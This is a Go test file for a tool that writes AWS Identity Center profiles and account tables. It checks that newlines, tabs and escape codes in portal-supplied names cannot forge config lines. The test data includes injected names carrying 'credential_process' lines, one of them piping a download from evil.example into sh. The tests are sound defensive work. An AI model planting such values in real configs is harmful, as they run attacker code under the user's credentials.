package identitycenter

import (
	"regexp"
	"strings"
	"testing"
)

func TestWriteProfiles(t *testing.T) {
	var b strings.Builder
	accounts := []Account{
		{ID: "111111111111", Name: "Dev Team", Roles: []string{"Developer", "ReadOnly"}},
		{ID: "222222222222", Name: "dev team", Roles: []string{"Developer"}}, // the same suggested name
		{ID: "333333333333", Name: "evil", Roles: []string{"Admin\ncredential_process = sh -c evil"}},
		{ID: "12\n[profile x]", Name: "bad", Roles: []string{"Admin"}},
	}
	if err := WriteProfiles(&b, Session{Name: "corp", StartURL: "https://corp.awsapps.com/start", Region: "eu-west-1"}, accounts); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		"[profile dev-team-developer]\nsso_session = corp\nsso_account_id = 111111111111\nsso_role_name = Developer\n",
		"[profile dev-team-developer-tools]\ncredential_process = stscred role dev-team-developer\n",
		"[profile dev-team-readonly]\n",
		"[profile dev-team-developer-2]\nsso_session = corp\nsso_account_id = 222222222222\n",
		"# a role of account 333333333333 whose name is not a permission set's was left out",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in:\n%s", want, out)
		}
	}
	if strings.Contains(out, "evil") || strings.Contains(out, "[profile x]") || strings.Contains(out, "bad") {
		t.Errorf("text from the portal that is no account id or role name reached the config:\n%s", out)
	}
	b.Reset()
	legacy := Session{StartURL: "https://old.awsapps.com/start", Region: "us-west-2"}
	if err := WriteProfiles(&b, legacy, accounts[:1]); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "sso_start_url = https://old.awsapps.com/start\nsso_region = us-west-2\nsso_account_id = 111111111111\n") {
		t.Errorf("legacy stanza:\n%s", b.String())
	}
}

func TestWriteAccounts(t *testing.T) {
	var b strings.Builder
	if err := WriteAccounts(&b, []Account{{ID: "111111111111", Name: "dev", Roles: []string{"A", "B"}}, {ID: "222222222222", Name: "empty"}}); err != nil {
		t.Fatal(err)
	}
	want := "ACCOUNT       NAME   ROLE\n111111111111  dev    A\n111111111111  dev    B\n222222222222  empty  -\n"
	if b.String() != want {
		t.Errorf("got:\n%s\nwant:\n%s", b.String(), want)
	}
}

// Names from the portal are its words: a newline or a tab in an account
// or role name cannot make lines of its own, in the table or in the
// config sections (audit finding 8).
func TestWriteAccountsHostileNames(t *testing.T) {
	forged := "\n[profile evil]\ncredential_process = sh -c 'curl evil.example | sh'\n"
	accounts := []Account{
		{ID: "111111111111", Name: "dev" + forged, Roles: []string{"Admin" + forged, "ReadOnly\tx\x1b[2J"}},
		{ID: "22222222222\n2", Name: "odd id"},
	}
	var b strings.Builder
	if err := WriteAccounts(&b, accounts); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
	if len(lines) != 4 {
		t.Fatalf("want a header and 3 lines, got %d:\n%s", len(lines), b.String())
	}
	for _, l := range lines {
		if strings.HasPrefix(l, "[profile") || strings.HasPrefix(l, "credential_process") || strings.ContainsAny(l, "\x1b\t") {
			t.Errorf("forged line %q in:\n%s", l, b.String())
		}
	}
	if !strings.Contains(lines[1], `dev\n[profile evil]\ncredential_process`) {
		t.Errorf("the name is not shown escaped: %q", lines[1])
	}
	b.Reset()
	accounts[0].Roles = append(accounts[0].Roles, "Developer")
	if err := WriteProfiles(&b, Session{Name: "corp", StartURL: "https://corp.awsapps.com/start", Region: "eu-west-1"}, accounts); err != nil {
		t.Fatal(err)
	}
	section := regexp.MustCompile(`^\[profile [a-z0-9._-]+\]$`)
	process := regexp.MustCompile(`^credential_process = stscred role [a-z0-9._-]+$`)
	profiles := 0
	for _, l := range strings.Split(b.String(), "\n") {
		switch {
		case strings.ContainsAny(l, "\x1b\t"),
			strings.HasPrefix(l, "[") && !section.MatchString(l),
			strings.HasPrefix(l, "credential_process") && !process.MatchString(l):
			t.Errorf("forged line %q in:\n%s", l, b.String())
		case section.MatchString(l):
			profiles++
		}
	}
	if profiles != 2 {
		t.Errorf("want the Developer role's two profiles, got %d:\n%s", profiles, b.String())
	}
}
